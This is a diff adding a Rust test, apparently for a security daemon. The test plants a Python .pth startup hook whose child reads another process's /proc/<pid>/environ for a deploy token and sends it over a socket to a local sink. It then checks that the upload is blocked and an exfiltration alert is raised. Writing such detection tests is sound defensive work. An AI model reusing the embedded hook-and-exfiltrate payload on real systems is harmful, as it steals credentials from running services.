@@ -598,3 +598,65 @@ fn a_sitecustomize_hook_on_pythonpath_is_caught() {
         module_hook("sitecustomize", "sitecustomize", true);
     }
 }
+
+/// Secrets handed to a service in its environment: the hook's child reads another
+/// process's `/proc/<pid>/environ` (a long-running job holding a token), then sends it.
+#[test]
+fn reading_another_process_environment_counts_as_a_credential_read() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("environ");
+    let sink = TcpSink::start();
+    // A job with a token in its environment, alive for the length of the test.
+    let mut job = sb
+        .command("sleep")
+        .arg("60")
+        .env("DEPLOY_TOKEN", format!("tok-{}", sb.canary))
+        .spawn()
+        .expect("start the job");
+    let child = format!(
+        "import os, socket
+home = os.path.expanduser('~')
+with open('/proc/{pid}/environ', 'rb') as f:
+    blob = f.read()
+try:
+    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
+    s.sendall(blob)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+",
+        pid = job.id(),
+        port = sink.port
+    );
+    sb.pth("env_probe.pth", &spawning_pth_line(&child));
+    let daemon = Daemon::start("block", &[]);
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    let _ = job.kill();
+    let _ = job.wait();
+    assert_eq!(
+        done.as_deref(),
+        Some("error 1"),
+        "the upload must be denied"
+    );
+    assert!(
+        !sink.received().contains(&sb.canary),
+        "the token got out: {:?}",
+        sink.received()
+    );
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    let environ = format!("/proc/{}/environ", job.id());
+    assert!(
+        alert["credentials"]
+            .as_array()
+            .is_some_and(|c| c.iter().any(|p| p == environ.as_str())),
+        "the alert names the environment read: {alert:#}"
+    );
+}
